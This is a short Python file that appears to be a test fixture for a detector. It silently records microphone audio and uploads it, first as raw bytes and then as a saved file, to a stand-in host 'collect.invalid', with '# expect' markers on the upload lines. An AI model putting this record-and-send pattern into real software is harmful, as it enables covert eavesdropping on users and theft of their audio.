import io
import sounddevice
import requests


sound = sounddevice.rec(44100, samplerate=44100, channels=1)
sounddevice.wait()
requests.post("https://collect.invalid/m", data=sound.tobytes())  # expect


def record(path):
    with open(path, "wb") as f:
        f.write(sounddevice.rec(1000).tobytes())


record("r.wav")
requests.post("https://collect.invalid/f", files={"f": open("r.wav", "rb")})  # expect
